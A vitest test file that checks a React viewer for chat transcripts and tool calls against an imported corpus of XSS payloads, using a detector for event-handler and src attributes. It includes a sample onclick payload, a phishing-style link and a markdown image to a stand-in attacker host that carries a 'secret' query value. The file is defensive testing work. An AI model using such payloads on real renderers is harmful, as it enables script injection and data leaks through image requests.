import { createElement, type ReactElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { xssCorpus } from './fixtures/xss-corpus'
import { JsonView } from './json-view'
import { Markdown, PlainText } from './markdown'
import { MessageView } from './message-view'
import { prepareBlocks } from './prepare-blocks'

const harmlessTags = new Set(
  (
    'a article blockquote br button code del div em hr input label li ol p path pre rect circle line polyline span strong ' +
    'sub sup svg table tbody td th thead tr ul'
  ).split(' '),
)

/** Whatever in the markup could run, fetch or fake something. React escapes `<`, `>` and quotes, so tags can be read by pattern. */
function dangersOf(element: ReactElement): string[] {
  const markup = renderToStaticMarkup(element)
  return [...markup.matchAll(/<([a-zA-Z][^\s/>]*)([^>]*)>/g)].flatMap(([tag, name = '', rest = '']) => {
    const attributes = [...rest.matchAll(/\s([^\s=]+)="([^"]*)"/g)].map(
      ([, key = '', value = '']) => [key, value] as const,
    )
    const isHarmless = harmlessTags.has(name) && attributes.every(isHarmlessAttribute)
    const isTraceless = name !== 'a' || rest.includes(' rel="noopener noreferrer nofollow"')
    return isHarmless && isTraceless ? [] : [tag]
  })
}

const isHarmlessAttribute = ([key, value]: readonly [string, string]) => {
  if (/^(?:on|src|action|formaction|xlink)/i.test(key)) return false
  if (key === 'href') return /^https?:\/\//.test(value)
  // An id or name that a stranger chooses could shadow a global of the page.
  if (key === 'id' || key === 'name') return /^(?:m\d+|answer|system)-/.test(value)
  return key !== 'style' || !value.includes('url')
}

test('the corpus has more than 300 payloads', () => {
  expect(new Set(xssCorpus).size).toBeGreaterThan(300)
})

test.each(xssCorpus.map((payload) => [payload]))('Markdown of %j is harmless', (payload) => {
  expect(dangersOf(createElement(Markdown, { text: payload }))).toEqual([])
})

test('plain text and JSON of every payload are harmless', () => {
  for (const payload of xssCorpus) {
    expect(dangersOf(createElement(PlainText, { text: payload }))).toEqual([])
    expect(dangersOf(createElement(JsonView, { value: { [payload]: [payload] }, openLevels: 9 }))).toEqual([])
  }
})

test('every field of a message may be hostile', () => {
  for (const payload of xssCorpus) {
    const call = { type: 'tool_use', id: payload, name: payload, input: { [payload]: payload, file_path: payload } }
    const { messages } = prepareBlocks(
      {
        messages: [
          {
            role: payload,
            content: [
              call,
              { ...call, name: 'Bash', input: { command: payload, description: payload } },
              { type: 'tool_result', tool_use_id: payload, is_error: true, content: payload },
              {
                type: 'tool_result',
                tool_use_id: `${payload}?`,
                is_error: true,
                content: [{ type: 'image', source: { type: 'url', url: payload } }],
              },
              { type: payload, text: payload },
              { type: 'text', text: payload, citations: [{ url: payload, title: payload, cited_text: payload }] },
              { type: 'document', title: payload, source: { type: 'url', url: payload, media_type: payload } },
              { type: 'image', source: { type: 'base64', media_type: payload, data: payload } },
              { type: 'fallback', from: { model: payload }, to: { model: payload } },
            ],
          },
        ],
      },
      null,
    )
    const [message] = messages
    expect(message && dangersOf(createElement(MessageView, { message }))).toEqual([])
  }
})

test('raw HTML is read as text', () => {
  const markup = renderToStaticMarkup(createElement(Markdown, { text: 'a <b onclick="x()">bold</b> claim' }))
  expect(markup).toContain('&lt;b onclick=&quot;x()&quot;&gt;')
})

test('a link shows its host and leaves without a trace', () => {
  const markup = renderToStaticMarkup(createElement(Markdown, { text: '[your bank](https://evil.example/login)' }))
  expect(markup).toContain('href="https://evil.example/login" target="_blank" rel="noopener noreferrer nofollow"')
  expect(markup).toContain('(evil.example)')
})

test('a remote picture becomes a labelled link', () => {
  const markup = renderToStaticMarkup(createElement(Markdown, { text: '![chart](https://evil.example/?q=secret)' }))
  expect(markup).not.toContain('<img')
  expect(markup).toContain('picture: chart')
})
